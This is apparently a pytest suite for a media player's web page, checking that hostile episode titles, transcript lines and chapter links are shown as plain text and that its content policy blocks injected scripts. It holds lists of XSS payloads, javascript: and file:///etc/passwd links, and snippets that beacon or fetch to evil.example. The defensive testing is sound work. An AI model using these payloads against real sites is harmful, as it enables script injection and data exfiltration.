"""Hostile titles, words, chapters and links on the page: shown as they are, and never run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from player.chapters.model import Chapter
from player.clean import clean_line
from player.episode import Episode
from player.media.opening import open_episode
from player.transcript.model import Segment, Timing, Transcript, Word
from tests.support.browser import Browser
from tests.support.pages import write_page

HOSTILE = (
    "<script>pwned = 1</script>",
    "</script><script>pwned = 1</script>",
    "</title><script>pwned = 1</script>",
    "</style><img src=x onerror='pwned = 1'>",
    "<img src=https://evil.example/x.png onerror=pwned=1>",
    "<svg onload=pwned=1><use href=data:,x>",
    '" onfocus="pwned = 1" autofocus="',
    "' onmouseover='pwned = 1'",
    "<!--<script>",
    "-->]]><b>bold</b>",
    "&lt;script&gt;pwned = 1&lt;/script&gt; &amp;amp;",
    "{{script}} {{sound_data}} {{words}}",
    "${pwned = 1} `pwned = 1` \\u003cscript\\u003e \\",
    "line\u2028separator\u2029 and \x00\x1b]0;x\x07 controls",
    "\u202egnp.exe \u2066isolate\u2069 \u200bzero\u200bwidth \ufeff",
    "<a href=javascript:pwned=1>click</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>* { background: url(https://evil.example/x) }</style>",
    "<plaintext>",
    "\ud800 a lone surrogate",
)

LINKS = (
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    'https://ok.example/" onclick="pwned=1',
    "https://ok.example/'><script>pwned=1</script>",
    "https://bank.example@evil.example/",
    "https://ok.example/fine?a=1&lt=2",
)

LEFT_ALONE = """(() => ({
  pwned: typeof pwned,
  title: document.querySelector("h1").textContent,
  tab: document.title,
  scripts: document.scripts.length,
  styles: document.querySelectorAll("style").length,
  strangers: document.querySelectorAll(
    "img, iframe, object, embed, base, b b, h1 *, .said b").length,
  handlers: [...document.querySelectorAll("*")].flatMap((element) =>
    element.getAttributeNames().filter((name) => name.startsWith("on"))),
  schemes: [...new Set([...document.querySelectorAll("a[href]")].map((link) => link.protocol))],
  said: [...document.querySelectorAll(".said > span")].map((line) => line.textContent),
}))()"""


def _door(text: str) -> str:
    """What the readers make of a text before it is in any episode."""
    return clean_line(text)


def _hostile_episode(text: str, media: Path) -> Episode:
    words = tuple(Word(word, at * 100, at * 100 + 100) for at, word in enumerate(text.split()))
    lines = [
        Segment(0, 5_000, text, text, words),
        Segment(5_000, 8_000, text, "Ada"),
    ]
    chapters = [Chapter(0, text, url=link) for link in LINKS]
    return Episode(
        key=text,
        title=text,
        media=media,
        show=text,
        duration_ms=10_000,
        page_url=LINKS[0],
        description="\n\n".join((text, *LINKS, *(f"https://ok.example/{text}",))),
        chapters=tuple(chapters),
        transcript=Transcript.of(lines, Timing.WORDS, language=text),
    )


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_it_is_shown_and_never_run(
    browser: Browser, tmp_path: Path, silence: Path, text: str
) -> None:
    shown = _door(text)
    page = write_page(tmp_path, _hostile_episode(shown, silence), silence).as_uri()
    browser.open(f"{page}#t=1")
    browser.press("/")
    browser.type("a")
    browser.press("Escape")
    browser.settle(0.1)
    found = browser.run(LEFT_ALONE)
    assert found["pwned"] == "undefined"
    assert found["title"] == shown
    assert found["tab"] == clean_line(f"{shown} — {shown}")
    assert found["said"] == [shown, shown]
    assert (found["scripts"], found["styles"], found["strangers"]) == (3, 1, 0)
    assert found["handlers"] == []
    assert set(found["schemes"]) <= {"file:", "https:"}  # file: of its own fragments
    _asks_for_nothing_else(browser, page, silence)


def test_hostile_files_come_through_the_door(
    browser: Browser, tmp_path: Path, silence: Path
) -> None:
    media = silence.rename(tmp_path / "talk.wav")
    cues = "".join(
        f"{at + 1}\n00:00:0{at % 9},000 --> 00:00:0{at % 9},900\n{text}\n\n"
        for at, text in enumerate(HOSTILE)
    )
    media.with_suffix(".srt").write_bytes(cues.encode("utf-8", "surrogatepass"))
    titles = [
        {
            "startTime": at,
            "title": text,
            "url": LINKS[at % len(LINKS)],
            "img": "https://evil.example",
        }
        for at, text in enumerate(HOSTILE[:9])
    ]
    media.with_name("talk.chapters.json").write_text(
        json.dumps({"version": "1.2.0", "chapters": titles}), encoding="utf-8"
    )
    episode = open_episode(media, page_url="https://ok.example/p/x").episode
    assert episode.transcript
    assert episode.chapters
    page = write_page(tmp_path, episode, media).as_uri()
    browser.open(page)
    browser.settle(0.2)
    found = browser.run(LEFT_ALONE)
    assert found["pwned"] == "undefined"
    assert (found["scripts"], found["styles"], found["strangers"]) == (3, 1, 0)
    assert "\u202e" not in browser.run("document.documentElement.outerHTML")
    _asks_for_nothing_else(browser, page, media)


def _asks_for_nothing_else(browser: Browser, page: str, sound: Path) -> None:
    asked = {ask.url.partition("#")[0] for ask in browser.asked if not ask.url.startswith("data:")}
    assert asked == {page, sound.as_uri()}


# If a hole were found all the same: what a stranger's script could do.

ATTACKS = {
    "an inline script": "document.body.append(Object.assign(document.createElement('script'), "
    "{text: 'window.pwned = 1'}))",
    "a handler": "document.body.setAttribute('onclick', 'window.pwned = 1'); document.body.click()",
    "markup": "document.body.innerHTML += '<img src=x onerror=\"window.pwned = 1\">'",
    "a script from elsewhere": "document.body.append(Object.assign("
    "document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "eval": "window.pwned = eval('1')",
    "a string as a timer": "setTimeout('window.pwned = 1')",
    "a javascript link": "location.href = 'javascript:window.pwned = 1'",
    "a picture that tells": "new Image().src = 'https://evil.example/?told'",
    "fetch": "fetch('https://evil.example/?told').catch(() => {})",
    "a beacon": "navigator.sendBeacon('https://evil.example/?told')",
    "a socket": "new WebSocket('wss://evil.example/')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: 'https://evil.example/'}))",
    "a style sheet": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: 'https://evil.example/x.css'}))",
    "a style of its own": "document.head.append(Object.assign(document.createElement('style'), "
    "{textContent: 'body { margin-left: 77px !important }'}))",
    "a font": "document.fonts.add(new FontFace('x', 'url(https://evil.example/x.woff2)')); "
    "document.fonts.load('1em x').catch(() => {})",
    "sound from the web": "document.querySelector('audio').src = 'https://evil.example/x.mp3'",
    "a form": "const form = document.createElement('form'); form.action = 'https://evil.example/'; "
    "document.body.append(form); form.submit()",
    "another base": "document.head.append(Object.assign(document.createElement('base'), "
    "{href: 'https://evil.example/'})); "
    "if (document.baseURI.includes('evil')) window.pwned = 1",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_policy_holds_where_all_else_failed(browser: Browser, demo: str, attack: str) -> None:
    browser.open(demo)
    browser.forget()
    browser.run(f"(() => {{ try {{ {ATTACKS[attack]} }} catch {{}} }})()")
    browser.settle(0.3)
    assert browser.run("typeof window.pwned") == "undefined"
    assert browser.run("getComputedStyle(document.body).marginLeft") == "0px"
    assert browser.run("location.href") == demo
    assert [ask.url for ask in browser.asked if "evil" in ask.url] == []
    # The browser says what it kept from happening: that is no fault of the page.
    browser.forget()
